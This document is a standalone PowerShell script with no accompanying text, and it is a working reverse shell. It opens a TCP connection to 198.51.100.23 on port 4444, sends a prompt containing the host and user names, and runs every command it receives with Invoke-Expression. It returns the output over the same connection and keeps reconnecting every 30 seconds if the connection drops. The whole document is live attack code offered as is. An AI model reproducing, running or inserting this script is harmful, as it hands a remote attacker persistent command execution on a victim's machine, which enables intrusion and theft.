$h = '198.51.100.23'; $p = 4444
while ($true) {
  try {
    $client = New-Object System.Net.Sockets.TCPClient($h, $p)
    $stream = $client.GetStream()
    [byte[]]$buf = 0..65535 | ForEach-Object { 0 }
    $banner = ([text.encoding]::ASCII).GetBytes("PS " + $env:COMPUTERNAME + "\" + $env:USERNAME + "> ")
    $stream.Write($banner, 0, $banner.Length)
    while (($n = $stream.Read($buf, 0, $buf.Length)) -ne 0) {
      $cmd = (New-Object System.Text.ASCIIEncoding).GetString($buf, 0, $n)
      $out = (Invoke-Expression $cmd 2>&1 | Out-String)
      $reply = $out + 'PS ' + (Get-Location).Path + '> '
      $bytes = ([text.encoding]::ASCII).GetBytes($reply)
      $stream.Write($bytes, 0, $bytes.Length)
      $stream.Flush()
    }
    $client.Close()
  } catch { Start-Sleep -Seconds 30 }
}
